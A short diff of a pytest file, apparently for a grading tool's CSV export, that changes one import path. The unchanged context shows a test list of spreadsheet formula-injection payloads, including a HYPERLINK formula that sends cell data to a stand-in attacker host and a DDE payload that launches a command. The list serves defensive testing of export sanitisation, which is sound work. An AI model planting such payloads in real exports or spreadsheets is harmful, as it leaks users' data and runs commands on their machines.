@@ -12,7 +12,7 @@ import csv
 import pytest
 from nbgrader.api import Gradebook
 
-from rlhf_lab.instructor import backup, csv_export
+from rlhf_lab.instructor.operations import backup, csv_export
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"grade")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0",
             "-2+3", "\t=1+1", "\r=1+1", " =1+1", "\n@x", "\uff1d1+1"]
